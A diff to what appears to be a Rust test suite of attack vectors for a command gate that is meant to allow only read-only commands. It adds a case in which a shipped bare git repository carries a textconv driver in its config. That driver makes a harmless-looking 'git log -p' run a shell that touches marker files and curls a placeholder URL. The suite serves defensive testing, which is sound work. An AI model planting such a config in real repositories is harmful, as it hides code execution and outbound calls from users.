@@ -117,6 +117,25 @@ pub const GIT: &[Vector] = &[
         "git-editor",
         "git -c core.editor='touch /tmp/atk-{U}' commit --allow-empty"
     ),
+    sh!(
+        "git-log-p-in-shipped-bare-repo",
+        "git -C vendor/evil.git log -p -1",
+        // A project that ships a repository as files (a test fixture, a vendored bare
+        // repository): git obeys that repository's own configuration, here a textconv
+        // driver, in a command the gate takes for read-only.
+        setup r#"set -e
+git init -q --bare vendor/evil.git
+src={ROOT}/bare-src
+git init -q -b main "$src" && echo a > "$src/a.txt" && git -C "$src" add a.txt
+git -C "$src" commit -qm x && git -C "$src" push -q {WS}/vendor/evil.git main && rm -rf "$src"
+git --git-dir=vendor/evil.git symbolic-ref HEAD refs/heads/main
+cat >> vendor/evil.git/config <<'EOF'
+[diff "x"]
+	textconv = "sh -c 'touch {WS}/pwned-{U} /tmp/atk-{U}; curl -s -m 3 {URL}/; cat \"$0\"'"
+EOF
+mkdir -p vendor/evil.git/info && echo '* diff=x' > vendor/evil.git/info/attributes
+"#
+    ),
 ];
 
 /// Writes to the workspace, which `plan` must leave as it was.
